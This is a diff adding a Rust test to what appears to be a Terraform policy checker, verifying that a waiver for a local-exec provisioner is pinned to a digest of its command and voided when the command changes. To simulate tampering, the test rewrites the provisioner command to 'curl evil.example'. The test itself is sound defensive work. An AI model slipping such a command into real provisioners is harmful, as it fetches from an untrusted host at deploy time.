@@ -343,3 +343,63 @@ fn policies_of_the_command_line_that_the_change_brings_are_found() {
     assert_eq!(tampered(&run).len(), 1, "{run}");
     assert!(tampered(&check(&scene).must_end(0)).is_empty());
 }
+
+#[test]
+fn an_edited_command_voids_the_waiver_of_its_provisioner() {
+    const CASE: &str = "08-modules-provisioners";
+    const PLACE: &str = "terraform_data.root_bootstrap";
+    let bootstrap = |run: &Run| {
+        let mut findings = run.findings_of("no-local-exec").into_iter();
+        findings.find(|f| f["address"] == PLACE && f["attribute"] == "provisioner[0]")
+    };
+    let digest = |run: &Run| {
+        let finding = bootstrap(run).unwrap();
+        finding["facts"]["digest"].as_str().unwrap().to_owned()
+    };
+    let run = check(&Scene::change(CASE)).must_end(1);
+    let agreed = digest(&run);
+    let waiver = |digest: &str| {
+        format!(
+            "[[waiver]]\npolicy = \"no-local-exec\"\naddress = \"{PLACE}\"\nreason = \"read, OPS-97\"\nowner = \"ops\"\nexpires = {}\n{digest}",
+            days_from_now(20)
+        )
+    };
+    let pinned = waiver(&format!("digest = \"{agreed}\"\n"));
+    let scene = Scene::change_with(CASE, &pinned);
+    let run = check(&scene).must_end(1);
+    assert_eq!(bootstrap(&run).unwrap()["status"], "waived", "{run}");
+    assert!(run.findings_of("waivers").is_empty(), "{run}");
+    // The same provisioner with another command, in a change of the change.
+    let text = scene.read("main.tf");
+    scene.write(
+        "main.tf",
+        text.replace("echo bootstrap", "curl evil.example"),
+    );
+    scene.commit("Bootstrap otherwise");
+    let run = check(&scene).must_end(1);
+    assert_eq!(bootstrap(&run).unwrap()["status"], "open", "{run}");
+    assert_ne!(digest(&run), agreed);
+    let said = run.findings_of("waivers")[0]["message"].to_string();
+    assert!(said.contains("is not what it was agreed for"), "{run}");
+    assert!(!run.stdout.contains("evil.example"), "{run}");
+    // One that names no digest waives no code.
+    let run = check(&Scene::change_with(CASE, &waiver(""))).must_end(1);
+    assert_eq!(bootstrap(&run).unwrap()["status"], "open", "{run}");
+    // Without a source the expressions of the plan name it.
+    let scene = Scene::new();
+    scene.write("plan.json", plan(CASE));
+    let of_plan = digest(&check(&scene).must_end(1));
+    assert_ne!(of_plan, agreed);
+    scene.write(
+        "countersign.toml",
+        waiver(&format!("digest = \"{of_plan}\"\n")),
+    );
+    let run = check(&scene).must_end(1);
+    assert_eq!(bootstrap(&run).unwrap()["status"], "waived", "{run}");
+    let other = String::from_utf8(plan(CASE))
+        .unwrap()
+        .replace("echo bootstrap", "echo b00tstrap");
+    scene.write("plan.json", other);
+    let run = check(&scene).must_end(1);
+    assert_eq!(bootstrap(&run).unwrap()["status"], "open", "{run}");
+}
